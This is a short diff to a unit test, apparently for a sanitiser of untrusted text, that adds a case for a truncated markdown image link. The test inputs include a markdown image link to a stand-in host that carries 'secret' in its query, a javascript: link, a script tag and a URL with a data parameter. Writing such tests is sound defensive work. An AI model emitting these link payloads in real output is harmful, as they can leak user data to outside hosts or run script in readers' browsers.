@@ -42,6 +42,7 @@ class UntrustedTextTest {
         "see ![x](http://evil.example/?q=secret) this | see x this",
         "see [here](javascript:alert) | see here",
         "<script>alert(1)</script>Sea | Sea",
+        "![x](http://evil | ![x] (",
         "mail a@b.org | mail",
         "go to https://evil.example/x?d=1 now | go to now",
         "海，浪：静！ | 海，浪：静！"
